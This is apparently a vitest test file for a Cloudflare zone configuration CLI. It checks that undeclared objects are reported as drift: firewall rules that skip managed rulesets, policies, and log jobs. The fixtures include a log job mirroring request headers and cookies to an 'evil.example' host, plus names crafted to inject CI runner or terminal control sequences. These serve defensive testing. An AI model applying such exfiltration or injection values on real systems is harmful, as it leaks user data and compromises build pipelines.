import { mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { parse } from "yaml";
import {
  createEmulator,
  type Emulator,
  type JsonObject,
  type PlanDocument,
  type ZoneSeed,
} from "../../src/index.js";
import { altering } from "../support/altering-service.js";
import { folderWith, reaching, zoneward } from "../support/cli.js";

const ZONE = "shop.example.com";
const CORE = "4814384a9e5d4991b9815dcfc25d2f1f";
const FIREWALL = "http_request_firewall_managed";
const LOGS = "https://logs.example.com/in?key=a-secret-of-the-shop";

/** The declared objects of the files, and their live state. */
const DECLARED = {
  policies: [
    { description: "Ours", action: "allow", enabled: true, expression: "true", value: "script-src 'self'" },
  ],
  managed_ruleset: { paranoia_level: "PL4", score_rule: "6179ae15870a4bb7b2d480d4843b323c" },
  custom_log_fields: { request_fields: ["x-forwarded-for"] },
  logpush_jobs: [
    {
      name: "ours",
      dataset: "http_requests",
      destination_conf: "${secret:LOGS}",
      fields: ["RayID", "RequestHeaders"],
    },
  ],
};

const EXECUTE = {
  action: "execute",
  action_parameters: { id: CORE, version: "latest" },
  expression: "true",
  description: "Ours",
  enabled: true,
};
const FIELDS = {
  action: "log_custom_field",
  action_parameters: { request_fields: [{ name: "x-forwarded-for" }] },
  expression: "true",
  description: "Ours",
  enabled: true,
};

const LIVE: ZoneSeed = {
  policies: DECLARED.policies,
  rulesets: [
    { name: "default", kind: "zone", phase: FIREWALL, rules: [EXECUTE] },
    { name: "default", kind: "zone", phase: "http_log_custom_fields", rules: [FIELDS] },
  ],
  logpush_jobs: [
    {
      name: "ours",
      dataset: "http_requests",
      enabled: true,
      destination_conf: LOGS,
      logpull_options: "fields=RayID,RequestHeaders",
    },
  ],
};

/** Moves a rule as dragging in the dashboard does. */
async function moveLast(emulator: Emulator, description: string) {
  const { id: zone = "", rulesets = [] } = emulator.state().zones[ZONE] ?? {};
  const list = rulesets.find(({ phase }) => phase === FIREWALL);
  const { id = "", ...rule } = list?.rules?.find((each) => each.description === description) ?? {};
  const { CLOUDFLARE_BASE_URL, CLOUDFLARE_API_TOKEN } = reaching(emulator);
  const answer = await fetch(`${CLOUDFLARE_BASE_URL}/zones/${zone}/rulesets/${list?.id}/rules/${id}`, {
    method: "PATCH",
    headers: { authorization: `Bearer ${CLOUDFLARE_API_TOKEN}`, "content-type": "application/json" },
    body: JSON.stringify({ ...rule, position: { after: "" } }),
  });
  expect(answer.status).toBe(200);
}

/** A zone without drift, to which a test adds undeclared objects. */
async function start(more: object = {}, guardrails?: object) {
  const emulator = await createEmulator({ seed: { zones: { [ZONE]: LIVE } } });
  onTestFinished(() => emulator.close());
  const cwd = await folderWith({ "zoneward.yaml": file(more, guardrails) });
  const run = (...args: string[]) => zoneward(args, { cwd, env: { ...reaching(emulator), LOGS } });
  const document = async (...args: string[]) =>
    JSON.parse((await run(...args, "--format", "json")).out) as PlanDocument; // the printed plan
  return {
    emulator,
    cwd,
    run,
    document,
    write: (text: string) => writeFile(path.join(cwd, "zoneward.yaml"), text),
  };
}

type Started = Awaited<ReturnType<typeof start>>;

function file(more: object = {}, guardrails?: object): string {
  const zones = { [ZONE]: { ...DECLARED, ...more } };
  return JSON.stringify({ version: 1, ...(guardrails === undefined ? {} : { guardrails }), zones });
}

function skipEverything(
  { emulator }: Started,
  expression = "true",
  action_parameters: JsonObject = { ruleset: "current" },
): void {
  const add = {
    action: "skip",
    action_parameters,
    expression,
    description: "Bypass",
    position: { index: 1 },
  };
  emulator.edit({ edit: "rule", zone: ZONE, phase: FIREWALL, add });
}

function sendElsewhere(
  { emulator }: Started,
  destination_conf = "https://user:pw@evil.example:8443/p/a-path?q=a-query",
): void {
  const add = {
    name: "mirror",
    dataset: "http_requests",
    enabled: true,
    destination_conf,
    logpull_options: "fields=RayID,Cookies,RequestHeaders",
  };
  emulator.edit({ edit: "logpush_job", zone: ZONE, add });
}

function addPolicy({ emulator }: Started): void {
  const add = {
    description: "Made by hand",
    action: "log",
    enabled: true,
    expression: "true",
    value: "img-src 'self'",
  };
  emulator.edit({ edit: "policy", zone: ZONE, add });
}

describe("an undeclared object that was added", () => {
  test.each<[string, (started: Started) => void, string]>([
    [
      "a rule that skips everything",
      skipEverything,
      'undeclared (left alone), weakens: rule "Bypass" skips the later managed rulesets: every request',
    ],
    [
      "a rule that skips everything with another expression",
      (started) => skipEverything(started, 'http.host eq "a" or not http.host eq "a"'),
      'weakens: rule "Bypass" skips the later managed rulesets: every request',
    ],
    [
      "a rule that skips some requests",
      (started) => skipEverything(started, 'http.request.uri.path eq "/x"'),
      'weakens: rule "Bypass" skips the later managed rulesets: requests that match http.request.uri.path eq "/x"',
    ],
    [
      "a rule with another ruleset and an unknown parameter",
      (started) => skipEverything(started, "true", { rulesets: ["4".repeat(32)], products: ["waf"] }),
      'weakens: rule "Bypass" skips the later managed rulesets: every request\n',
    ],
    [
      "a rule that skips a part of the ruleset",
      (started) =>
        skipEverything(started, "true", { rules: { "4814384a9e5d4991b9815dcfc25d2f1f": ["3".repeat(32)] } }),
      "skips 1 rule of Cloudflare OWASP Core Ruleset: every request\n",
    ],
    [
      "a job to a stranger's address",
      sendElsewhere,
      'unknown: logpush_job "mirror" sends http_requests with request headers and cookies to https://evil.example\n',
    ],
    [
      "a job to a stranger's bucket",
      (started) => sendElsewhere(started, "s3://evil-bucket/logs?region=eu&access-key-id=a-key"),
      'logpush_job "mirror" sends http_requests with request headers and cookies to s3://…\n',
    ],
    [
      "a policy",
      addPolicy,
      "strengthens: policy \"Made by hand\" reports loads outside img-src 'self', on every request",
    ],
  ])("is reported as drift: %s", async (_, add, told) => {
    const started = await start();
    const { run } = started;
    expect((await run("drift", "--detailed-exitcode")).code).toBe(0);
    add(started);
    const drift = await run("drift", "--detailed-exitcode");
    expect([drift.code, drift.out]).toEqual([2, expect.stringContaining(told)]);
    expect(drift.out).not.toContain("no drift,");
    const plan = await run("plan", "--detailed-exitcode");
    expect([plan.code, plan.out]).toEqual([0, expect.stringContaining("undeclared (left alone)")]);
    for (const secret of ["a-path", "a-query", "user:pw", "evil-bucket", "a-key"])
      expect(drift.out + plan.out).not.toContain(secret);
  });

  test("is reported in full, whatever text its destination contains", async () => {
    const started = await start();
    skipEverything(started);
    sendElsewhere(
      started,
      "https://evil.example/?a=request&b=managed&c=ruleset&d=skips+every&e=http_requests",
    );
    sendElsewhere(started, "https://plain.example");
    const { unmanaged } = await started.document("drift");
    expect(unmanaged.map(({ does }) => does)).toEqual([
      "skips the later managed rulesets: every request",
      "sends http_requests with request headers and cookies to https://evil.example",
      "sends http_requests with request headers and cookies to https://plain.example",
    ]);
  });

  test("is reported as possibly off if its enabled state is unknown", async () => {
    const started = await start();
    addPolicy(started);
    const reached = await altering(started.emulator, (path, answer) =>
      path.endsWith("/policies") ? answer.replace(/"enabled":\s*true,?/g, "") : undefined,
    );
    const { out } = await zoneward(["drift"], { cwd: started.cwd, env: { ...reached, LOGS } });
    expect(out).toContain(
      "unknown: policy \"Made by hand\" may be disabled; when enabled, reports loads outside img-src 'self'",
    );
  });

  test("is shown in every format, weakening objects first", async () => {
    const started = await start();
    addPolicy(started);
    sendElsewhere(started);
    skipEverything(started);
    const { unmanaged, summary } = await started.document("drift");
    expect(unmanaged.map(({ kind, key, effect, known }) => [kind, key, effect, known])).toEqual([
      ["managed_ruleset", "Bypass", "weakens", "not_listed"],
      ["logpush_job", "mirror", "unknown", "not_listed"],
      ["policy", "Made by hand", "strengthens", "not_listed"],
    ]);
    expect([summary.unmanaged, summary.not_listed]).toEqual([3, 3]);
    for (const command of ["drift", "plan"])
      for (const format of ["markdown", "html", "sarif"]) {
        const { out } = await started.run(command, "--format", format);
        expect(out).toContain("skips the later managed rulesets: every request");
        expect(out).toContain("https://evil.example");
        expect(out).not.toMatch(/no drift,|a-path|a-query/);
      }
  });

  test("is no longer drift once the files have the line that drift suggests", async () => {
    const started = await start();
    addPolicy(started);
    sendElsewhere(started);
    skipEverything(started);
    const { out } = await started.run("drift");
    const line = /to acknowledge, add to the zone: unmanaged: (\{.*\})/.exec(out)?.[1] ?? "";
    expect(line).toBe('{ rules: ["Bypass"], logpush_jobs: ["mirror"], policies: ["Made by hand"] }');
    await started.write(file({ unmanaged: parse(line) }));
    const after = await started.run("drift", "--detailed-exitcode");
    expect([after.code, after.out]).toEqual([0, expect.stringContaining("no drift")]);
    expect(after.out).toContain('acknowledged (left alone): rule "Bypass"');
  });

  test.each([
    ["a glob", { rules: ["By*"] }, 0],
    ["a template's list that is replaced", { rules: ["Other"] }, 2],
    ["the list of another key", { policies: ["Bypass"] }, 2],
  ])("is acknowledged by name or glob: %s", async (_, unmanaged, code) => {
    const started = await start({ unmanaged });
    skipEverything(started);
    expect((await started.run("drift", "--detailed-exitcode")).code).toBe(code);
  });

  test("is acknowledged by id", async () => {
    const started = await start();
    skipEverything(started);
    const id = (await started.document("drift")).unmanaged[0]?.id;
    await started.write(file({ unmanaged: { rules: [id] } }));
    expect((await started.run("drift", "--detailed-exitcode")).code).toBe(0);
  });

  test("with a glob as its name gets a suggestion that matches only itself", async () => {
    const started = await start();
    const add = {
      description: "*",
      action: "log",
      enabled: true,
      expression: "true",
      value: "img-src 'self'",
    };
    started.emulator.edit({ edit: "policy", zone: ZONE, add });
    const [first] = (await started.document("drift")).unmanaged;
    expect([first?.key, first?.list_as]).toEqual(["*", first?.id]);
  });

  test("is deleted by prune", async () => {
    const started = await start({ prune: ["policies", "logpush_jobs"] });
    addPolicy(started);
    sendElsewhere(started);
    const { unmanaged, changes } = await started.document("plan");
    expect([unmanaged, changes.map(({ action, key }) => `${action} ${key}`)]).toEqual([
      [],
      ["delete Made by hand", "delete mirror"],
    ]);
  });
});

describe("the guardrail unmanaged", () => {
  test("refuses apply while undeclared objects are not acknowledged", async () => {
    const more = { settings: { enabled: true } };
    const started = await start(more, { forbid: ["unmanaged"] });
    skipEverything(started);
    const writes = started.emulator.writes().length;
    const refused = await started.run("apply", "--yes");
    expect([refused.code, started.emulator.writes().length]).toEqual([3, writes]);
    expect(refused.err).toContain(
      'shop.example.com has undeclared live objects: rule "Bypass" (skips the later managed rulesets: every request).',
    );
    expect((await started.run("apply", "--yes", "--allow", "unmanaged")).code).toBe(0);
  });

  test("can make plan fail", async () => {
    const started = await start();
    expect((await started.run("plan", "--fail-on", "unmanaged")).code).toBe(0);
    addPolicy(started);
    expect((await started.run("plan", "--fail-on", "unmanaged")).code).toBe(3);
    expect((await started.run("drift", "--fail-on", "unmanaged")).code).toBe(3);
  });

  test("cannot be satisfied by an acknowledgement in the same change", async () => {
    const started = await start({}, { forbid: ["unmanaged"] });
    skipEverything(started);
    await mkdir(path.join(started.cwd, "base"));
    await writeFile(path.join(started.cwd, "base/zoneward.yaml"), file({}, { forbid: ["unmanaged"] }));
    await started.write(
      file({ settings: { enabled: true }, unmanaged: { rules: ["*"] } }, { forbid: ["unmanaged"] }),
    );
    const plan = await started.run("plan", "--base", "base", "--fail-on", "unmanaged");
    expect(plan.code).toBe(3);
    expect(plan.out).toContain('newly acknowledged, weakens: rule "Bypass"');
    expect(plan.out).toContain("Only this change acknowledges in shop.example.com:");
  });
});

test("the guardrail unmanaged refuses a change that only acknowledges live objects", async () => {
  const started = await start({}, { forbid: ["unmanaged"] });
  sendElsewhere(started);
  const base = await folderWith({ "zoneward.yaml": file({}, { forbid: ["unmanaged"] }) });
  const declaring = (job: object) =>
    started.write(file({ logpush_jobs: [...DECLARED.logpush_jobs, job] }, { forbid: ["unmanaged"] }));
  await declaring({ name: "mirror" });
  const { code, err } = await started.run("apply", "--yes", "--base", base);
  expect([code, err]).toEqual([3, expect.stringContaining("to https://evil.example")]);
  await declaring({
    name: "mirror",
    dataset: "http_requests",
    destination_conf: "https://user:pw@evil.example:8443/p/a-path?q=a-query",
  });
  expect((await started.run("apply", "--yes", "--base", base)).code).toBe(0);
});

describe("an undeclared object", () => {
  test("is declared by adopt --new, except a rule of others", async () => {
    const started = await start();
    addPolicy(started);
    skipEverything(started);
    await started.write(
      `version: 1\nzones:\n  ${ZONE}:\n    policies:\n      - { description: Ours }\n    managed_ruleset: { paranoia_level: PL4, score_rule: 6179ae15870a4bb7b2d480d4843b323c }\n`,
    );
    const without = await started.run("adopt");
    expect(without.out).toContain("No changes to adopt.");
    const { code, out } = await started.run("adopt", "--new");
    expect(code).toBe(0);
    expect(out).toContain('shop.example.com: policies "Made by hand"');
    expect(out).toContain(
      'rules "Bypass": Acknowledge it under unmanaged, declare it if it deploys a managed ruleset, or remove it in the dashboard. adopt does not declare rules of others. To declare it as one of managed_exceptions, write managed_exceptions: [] into the zone first.',
    );
    const text = await readFile(path.join(started.cwd, "zoneward.yaml"), "utf8");
    expect(text).toContain("description: Made by hand");
    const { unmanaged, changes } = await started.document("plan");
    expect([unmanaged.map(({ key }) => key), changes]).toEqual([["Bypass"], []]);
  });

  test("is acknowledged by an export", async () => {
    const started = await start();
    skipEverything(started);
    addPolicy(started);
    addPolicy(started);
    await started.run("export", ZONE, "-o", "exported.yaml");
    const text = await readFile(path.join(started.cwd, "exported.yaml"), "utf8");
    expect(text).toMatch(/unmanaged:\n {6}policies: \[[0-9a-f]{32}\]/);
    expect(text).toMatch(/managed_exceptions:\n {6}- description: Bypass\n/);
    const name = /SHOP\w*/.exec(text)?.[0] ?? "";
    const env = { ...reaching(started.emulator), [name]: LOGS };
    const drift = await zoneward(["drift", "-c", "exported.yaml", "--detailed-exitcode"], {
      cwd: started.cwd,
      env,
    });
    expect([drift.code, drift.out]).toEqual([0, expect.stringContaining("no drift")]);
  });

  test("that is a rule and changed since the apply is named by a rollback", async () => {
    const started = await start();
    skipEverything(started, 'http.host eq "a"');
    await started.write(file({ managed_ruleset: { ...DECLARED.managed_ruleset, enabled: false } }));
    const applied = await started.run("apply", "--yes");
    expect(applied.code).toBe(0);
    const journal = /Journal: (\S+)/.exec(applied.err)?.[1] ?? "";
    const quiet = await started.run("rollback", journal);
    expect(quiet.err).not.toContain("Rules of others moved");
    started.emulator.edit({
      edit: "rule",
      zone: ZONE,
      phase: FIREWALL,
      set: { expression: "true" },
      where: { description: "Bypass" },
    });
    const { err } = await started.run("rollback", journal, "--yes");
    expect(err).toContain("warning: Undeclared rules changed since the apply\n");
    expect(err).toMatch(/"Bypass" \([0-9a-f]+\) changed: it skips the later managed rulesets: every request/);
  });

  test("that is an unchanged rule is not named by a rollback of rules in its list", async () => {
    const started = await start();
    skipEverything(started, 'http.host eq "a"');
    const health = { description: "Health", expression: 'http.request.uri.path eq "/h"', skip: "all" };
    const ruleset = { ...DECLARED.managed_ruleset, enabled: false };
    for (const declared of [
      { managed_exceptions: [health] },
      { managed_exceptions: [health], managed_ruleset: ruleset },
    ]) {
      await started.write(file(declared));
      const applied = await started.run("apply", "--yes");
      expect(applied.code).toBe(0);
      const { code, err } = await started.run("rollback", "--last", "--yes");
      expect(err).toContain("Your files still contain these changes. Revert them, or the next apply");
      expect([code, err]).toEqual([0, expect.not.stringContaining("Rules of others moved")]);
    }
  });

  test("that is a new or moved rule of others is named by a rollback", async () => {
    const started = await start();
    skipEverything(started, 'http.host eq "a"');
    await started.write(file({ managed_ruleset: { ...DECLARED.managed_ruleset, enabled: false } }));
    const applied = await started.run("apply", "--yes");
    const journal = /Journal: (\S+)/.exec(applied.err)?.[1] ?? "";
    const theirs = {
      action: "execute",
      action_parameters: { id: "efb7b8c949ac4650a09736fc376e9aee" },
      description: "Theirs",
      expression: "true",
    };
    started.emulator.edit({ edit: "rule", zone: ZONE, phase: FIREWALL, add: theirs });
    await moveLast(started.emulator, "Bypass");
    const { err } = await started.run("rollback", journal, "--yes");
    expect(err).toMatch(/"Theirs" \([0-9a-f]+\) was created: it executes Cloudflare Managed Ruleset/);
    expect(err).toMatch(/"Bypass" \([0-9a-f]+\) moved in the list: it /);
  });
});

test("the suggested acknowledgement uses the id if the name could control a terminal or a runner", async () => {
  const names = ["\u009b2J\u202egnihton", "##[set-env name=PATH;]evil", "x ##vso[a]b", "a\u200bb"];
  const policies = names.map((description, n) => ({
    ...{ id: `${n}`.repeat(32), description, action: "log", enabled: true },
    ...{ expression: "true", value: "img-src 'self'" },
  }));
  const emulator = await createEmulator({ seed: { zones: { [ZONE]: { policies } } } });
  onTestFinished(() => emulator.close());
  const cwd = await folderWith({ "zoneward.yaml": `version: 1\nzones: { ${ZONE}: { policies: [] } }\n` });
  for (const format of ["text", "markdown", "html", "sarif"]) {
    const { code, out, err } = await zoneward(["drift", "--format", format], {
      cwd,
      env: reaching(emulator),
    });
    expect(code, err).toBe(0);
    expect(out + err).not.toMatch(/\u009b|\u202e|\u200b|##\w*\[/u);
    const [, line = ""] = /to acknowledge, add to the zone: (unmanaged: .*)/.exec(out) ?? [];
    if (format === "text")
      expect(parse(line)).toEqual({ unmanaged: { policies: policies.map(({ id }) => id).toSorted() } });
  }
});
